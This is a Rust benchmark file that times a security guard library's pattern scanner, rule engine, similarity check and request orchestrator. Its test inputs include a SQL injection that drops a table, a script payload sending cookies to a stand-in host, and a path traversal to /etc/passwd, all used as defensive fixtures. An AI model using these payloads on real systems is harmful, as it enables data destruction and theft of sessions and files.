//! Performance benchmarks for the guard pipeline
//!
//! Run with: cargo bench
//!
//! Targets:
//! - Pattern scan: < 50μs per input
//! - Rule engine (cache miss): < 100μs
//! - Full orchestrated decision (in-memory store): < 1ms

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use serde_json::json;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use aegis_guard::orchestrator::{SecurityOrchestrator, SecurityRequest};
use aegis_guard::patterns::PatternCatalog;
use aegis_guard::rule_engine::{RuleEngine, RuleEngineConfig};
use aegis_guard::session::similarity;
use aegis_guard::MemoryStore;

const INPUTS: [(&str, &str); 4] = [
    ("clean", "Hello, world! Looking forward to the release notes."),
    ("sqli", "admin' OR '1'='1'; DROP TABLE users; --"),
    ("xss", "<script>document.location='http://evil.example/'+document.cookie</script>"),
    ("traversal", "../../../../etc/passwd"),
];

// =============================================================================
// PATTERN CATALOG
// =============================================================================

fn bench_pattern_scan(c: &mut Criterion) {
    let mut group = c.benchmark_group("PatternCatalog");
    let catalog = PatternCatalog::builtin();
    group.throughput(Throughput::Elements(1));

    for (name, input) in INPUTS {
        group.bench_with_input(BenchmarkId::new("matches", name), input, |b, input| {
            b.iter(|| catalog.matches(black_box(input)).len())
        });
    }

    group.finish();
}

// =============================================================================
// RULE ENGINE
// =============================================================================

fn bench_rule_engine(c: &mut Criterion) {
    let mut group = c.benchmark_group("RuleEngine");

    let uncached = RuleEngine::with_default_rules(
        &RuleEngineConfig {
            cache_capacity: 0,
            ..RuleEngineConfig::default()
        },
        PatternCatalog::builtin(),
    );
    let cached = RuleEngine::with_default_rules(&RuleEngineConfig::default(), PatternCatalog::builtin());

    for (name, input) in INPUTS {
        let value = json!(input);
        group.bench_with_input(BenchmarkId::new("general_uncached", name), &value, |b, value| {
            b.iter(|| uncached.validate("general", black_box(value), None))
        });
        group.bench_with_input(BenchmarkId::new("general_cached", name), &value, |b, value| {
            b.iter(|| cached.validate("general", black_box(value), None))
        });
    }

    let email = json!("  Someone.Else@Example.COM ");
    group.bench_function("email", |b| b.iter(|| uncached.validate("email", black_box(&email), None)));

    group.finish();
}

// =============================================================================
// SESSION SIMILARITY
// =============================================================================

fn bench_similarity(c: &mut Criterion) {
    let a = "3f2a9c1be81d4470aa5c02e19b0f6d3e57c1a2b4e9f0d8c7b6a5f4e3d2c1b0a99887766";
    let b_same = a;
    let b_diff = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567";

    c.bench_function("similarity_identical", |bench| {
        bench.iter(|| similarity(black_box(a), black_box(b_same)))
    });
    c.bench_function("similarity_different", |bench| {
        bench.iter(|| similarity(black_box(a), black_box(b_diff)))
    });
}

// =============================================================================
// ORCHESTRATOR
// =============================================================================

fn bench_process_request(c: &mut Criterion) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let orchestrator = Arc::new(
        SecurityOrchestrator::builder()
            .store(Arc::new(MemoryStore::new()))
            .build()
            .unwrap(),
    );
    // Distinct identifiers keep the rate limiter out of the measurement
    let counter = AtomicU64::new(0);

    let mut group = c.benchmark_group("Orchestrator");
    for (name, input) in [INPUTS[0], INPUTS[2]] {
        group.bench_function(BenchmarkId::new("process_request", name), |b| {
            b.to_async(&runtime).iter(|| {
                let orchestrator = orchestrator.clone();
                let id = counter.fetch_add(1, Ordering::Relaxed);
                async move {
                    orchestrator
                        .process_request(SecurityRequest::new("api", format!("bench-{}", id)).with_input(input))
                        .await
                }
            })
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_pattern_scan,
    bench_rule_engine,
    bench_similarity,
    bench_process_request
);
criterion_main!(benches);
